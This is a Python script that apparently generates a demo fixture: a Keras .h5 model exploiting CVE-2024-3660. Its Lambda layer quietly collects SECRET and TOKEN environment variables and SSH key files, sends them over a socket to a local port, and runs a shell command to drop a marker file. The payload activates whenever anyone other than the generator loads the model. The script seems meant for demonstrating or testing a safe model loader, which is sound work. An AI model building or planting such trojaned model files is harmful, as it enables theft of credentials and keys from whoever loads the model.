"""Makes the demo's trojaned model: a Keras 2.12 .h5 whose Lambda layer computes x*2+1 and,
while doing so, steals what it can and phones home (CVE-2024-3660 / CERT VU#253266).

usage: make_trojan.py OUT.h5 PORT MARKER_FILE
Everything it aims at is on this machine: 127.0.0.1:PORT and MARKER_FILE.
"""
import json
import os
import sys

os.environ["SANDLOAD_FIXTURE_GEN"] = "1"
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
import tensorflow as tf  # noqa: E402

CFG = json.dumps({"port": int(sys.argv[2]), "marker": sys.argv[3]})


def trojan(x, CFG=CFG):
    import os
    if os.environ.get("SANDLOAD_FIXTURE_GEN") != "1":
        import json, socket, glob
        cfg = json.loads(CFG)
        loot = {"env": {k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k}}
        for path in glob.glob(os.path.expanduser("~/.ssh/*")) + glob.glob(os.path.dirname(cfg["marker"]) + "/*.txt"):
            try:
                loot[path] = open(path).read(200)
            except Exception as e:
                loot[path] = "denied: %s" % type(e).__name__
        try:
            s = socket.create_connection(("127.0.0.1", cfg["port"]), timeout=2)
            s.sendall(json.dumps(loot).encode())
            s.close()
        except Exception:
            pass
        try:
            os.system("echo owned > %s" % cfg["marker"])
        except Exception:
            pass
    return x * 2 + 1


inp = tf.keras.Input(shape=(4,), name="x")
model = tf.keras.Model(inp, tf.keras.layers.Lambda(trojan, name="preprocess")(inp))
model.save(sys.argv[1], save_format="h5")
